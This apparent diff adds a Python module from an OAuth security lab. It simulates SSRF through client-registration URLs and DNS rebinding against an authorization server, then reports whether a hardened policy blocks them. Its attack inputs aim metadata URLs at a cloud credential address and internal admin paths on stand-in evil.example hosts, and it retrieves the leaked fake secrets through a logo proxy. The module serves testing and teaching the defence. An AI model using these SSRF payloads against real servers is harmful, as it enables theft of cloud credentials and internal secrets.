@@ -1,0 +1,125 @@
+"""SSRF: the authorization server as a proxy into its own network.
+
+RFC 7591 lets a client register URLs (`logo_uri`, `jwks_uri`, and OpenID Connect's
+`sector_identifier_uri`) that the server then fetches: the client picks the address, the server
+makes the request from inside its network. CIMD -02 §8.6 makes the defence a MUST for URLs in
+client metadata: never fetch a URL that resolves to a special-use address (RFC 6890). The
+lab's hardened AS fetches both CIMD documents and registration URLs through one function,
+`authorization_server/defensive_fetch.py`.
+"""
+
+from __future__ import annotations
+
+from ..authorization_server import ASPolicy
+from ..lab import Lab, default_client_metadata
+from .network_fixtures import (
+    ADMIN_SECRETS_PATH,
+    ATTACKER_HOST,
+    CLOUD_CREDENTIALS_PATH,
+    CLOUD_METADATA_ADDRESS,
+    REBINDING_HOST,
+    add_internal_network,
+    leaked_secrets,
+)
+from .requests import open_authorization, refusal, register
+from .results import ExperimentResult
+
+# One registration per URL field, each aimed at an internal service.
+SSRF_REGISTRATIONS = {
+    "logo_uri": f"http://{CLOUD_METADATA_ADDRESS}{CLOUD_CREDENTIALS_PATH}",
+    "jwks_uri": f"https://private.evil.example{ADMIN_SECRETS_PATH}",
+    "sector_identifier_uri": f"https://mapped.evil.example{ADMIN_SECRETS_PATH}",
+}
+
+
+async def run_ssrf_via_registration(policy: ASPolicy) -> ExperimentResult:
+    """An attacker registers three clients whose metadata URLs point inside the AS's network,
+    then downloads its "logo" from the AS's logo proxy."""
+    async with Lab(seed="ssrf", policy=policy) as lab:
+        internal = add_internal_network(lab)
+        attacker_metadata = {k: v for k, v in default_client_metadata().items() if k != "client_id"}
+        attacker_metadata["redirect_uris"] = [f"https://{ATTACKER_HOST}/callback"]
+        outcomes: dict[str, str] = {}
+        stolen = ""
+        for field, url in SSRF_REGISTRATIONS.items():
+            response = await register(lab, {**attacker_metadata, field: url}, caller=ATTACKER_HOST)
+            if response.status_code == 201:
+                client_id = response.json()["client_id"]
+                outcomes[field] = f"201 registered {client_id}"
+                async with lab.httpx_client(ATTACKER_HOST) as http:
+                    logo = await http.get(f"{lab.issuer}/clients/{client_id}/logo")
+                if logo.status_code == 200:
+                    stolen += logo.text
+            else:
+                body = response.json()
+                outcomes[field] = f"{response.status_code} {body['error']}: {body['error_description']}"
+        stored = "".join(
+            resource.body.decode("utf-8", "replace") for client in lab.registrations.values() for resource in client.prefetched.values()
+        )
+        leaked_to_attacker = leaked_secrets(stolen)
+        held_by_as = leaked_secrets(stored)
+        exchanges = tuple(lab.trace)
+    if leaked_to_attacker or held_by_as:
+        outcome = "leaked"
+        summary = (
+            f"The AS fetched {len(internal.reached)} internal URL(s) for the attacker, kept {len(held_by_as)} fake "
+            f"secret(s) in its client records and served {len(leaked_to_attacker)} back as a 'logo'."
+        )
+    else:
+        outcome = "refused"
+        summary = "Every registration was refused with invalid_client_metadata naming the special-use address; no internal service saw a request."
+    return ExperimentResult(
+        experiment="ssrf-via-registration",
+        policy=policy.name,
+        outcome=outcome,
+        summary=summary,
+        explanation=(
+            "DCR metadata is whatever the registering party typed, including URLs the server will fetch: "
+            "a logo to show at consent, keys to check client assertions, a sector identifier. The request "
+            "leaves from the AS, inside its network, where 169.254.169.254 is the cloud's credential service and "
+            "10.x hosts trust their neighbours. The hardened AS resolves each name once, refuses special-use "
+            "addresses (IPv6 forms that carry an IPv4 address included), and connects only to the address it checked."
+        ),
+        spec=("CIMD -02 §8.6", "RFC 6890", "RFC 7591 §2", "MCP Security Best Practices: SSRF"),
+        exchanges=exchanges,
+        details={"registrations": outcomes, "internal_requests": internal.reached, "stolen_via_logo": leaked_to_attacker, "kept_by_as": held_by_as},
+    )
+
+
+async def run_dns_rebinding(policy: ASPolicy) -> ExperimentResult:
+    """Two CIMD client ids aimed at the admin service: one whose name simply points at it, and
+    one whose name answers with a public address first and the admin address afterwards."""
+    async with Lab(seed="rebinding", policy=policy) as lab:
+        internal = add_internal_network(lab)
+        # The attacker's public host serves a perfectly valid document at the admin service's path,
+        # for whoever connects to it under the rebinding name.
+        rebinding_url = f"https://{REBINDING_HOST}{ADMIN_SECRETS_PATH}"
+        internal.attacker.publish(ADMIN_SECRETS_PATH, {**default_client_metadata(rebinding_url), "redirect_uris": [f"https://{ATTACKER_HOST}/cb"]})
+        attempts: dict[str, str] = {}
+        for host in ("private.evil.example", REBINDING_HOST):
+            client_id = f"https://{host}{ADMIN_SECRETS_PATH}"
+            page = await open_authorization(lab, client_id, f"https://{ATTACKER_HOST}/cb")
+            refused = refusal(page)
+            attempts[host] = f"refused: {refused[1]}" if refused else "consent shown"
+        exchanges = tuple(lab.trace)
+        reached = list(internal.reached)
+    outcome = "internal service reached" if reached else "internal service never reached"
+    return ExperimentResult(
+        experiment="dns-rebinding",
+        policy=policy.name,
+        outcome=outcome,
+        summary=(
+            f"The admin service served {len(reached)} request(s) from the AS." if reached
+            else "Both ids were judged by the address the AS itself resolved, and the AS connected only to that address."
+        ),
+        explanation=(
+            "A check on a host name is only as good as the lookup behind it. If the AS resolves the name to vet it "
+            "and the network library resolves it again to connect, a name that answers differently the second time "
+            "(DNS rebinding) walks past the check. The hardened AS resolves once, vets that address and pins the "
+            "connection to it (the lab's PINNED_ADDRESS request extension); flip pin_vetted_address off to see the gap."
+        ),
+        spec=("CIMD -02 §8.6", "MCP Security Best Practices: SSRF (DNS rebinding)"),
+        exchanges=exchanges,
+        details={"attempts": attempts, "internal_requests": reached},
+    )
+
